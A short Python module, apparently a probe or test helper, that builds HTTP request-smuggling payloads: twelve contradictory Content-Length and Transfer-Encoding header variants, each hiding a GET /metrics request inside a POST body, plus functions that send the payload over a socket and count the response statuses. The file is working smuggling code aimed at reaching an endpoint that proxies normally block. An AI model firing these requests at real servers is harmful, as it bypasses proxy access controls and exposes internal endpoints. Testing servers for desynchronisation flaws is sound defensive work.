"""Requests whose length contradicts itself, with another request hidden in what follows."""

import contextlib
import re
import socket
from typing import Final

POSTED: Final = "/v1/text"
HIDDEN: Final = "/metrics"  # each process answers it, and no proxy passes it on
SECONDS: Final = 1.0

# The lines of the head that say where the body ends. `{all}` counts what follows the head.
CONTRADICTING: Final = {
    "a length and chunks": "Content-Length: {all}\r\nTransfer-Encoding: chunked",
    "chunks and a length": "Transfer-Encoding: chunked\r\nContent-Length: {all}",
    "two lengths": "Content-Length: 5\r\nContent-Length: {all}",
    "a list of lengths": "Content-Length: 5, {all}",
    "a sign": "Content-Length: +{all}",
    "a negative length": "Content-Length: -5",
    "a length that overflows": "Content-Length: 18446744073709551621",
    "unknown chunks": "Content-Length: {all}\r\nTransfer-Encoding: xchunked",
    "two encodings": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "a space before the colon": "Content-Length: {all}\r\nTransfer-Encoding : chunked",
    "a vertical tab": "Content-Length: {all}\r\nTransfer-Encoding: \x0bchunked",
    "a folded line": "Content-Length: {all}\r\nTransfer-Encoding:\r\n chunked",
}


def smuggled(head: str, host: str) -> bytes:
    """One request by such a head. As chunks its body ends before the hidden one."""
    hidden = f"GET {HIDDEN} HTTP/1.1\r\nHost: {host}\r\n\r\n"
    body = f"0\r\n\r\n{hidden}"
    lines = head.replace("{all}", str(len(body)))
    return f"POST {POSTED} HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n\r\n{body}".encode()


def exchange(opened: socket.socket, sent: bytes) -> bytes:
    """Send it, and return all that comes back until the connection ends or says nothing more."""
    opened.settimeout(SECONDS)
    answer = b""
    with contextlib.suppress(OSError):
        opened.sendall(sent)
        while piece := opened.recv(65536):
            answer += piece
    return answer


def statuses(answer: bytes) -> list[int]:
    """The status of each answer that came back."""
    return [int(status) for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", answer)]
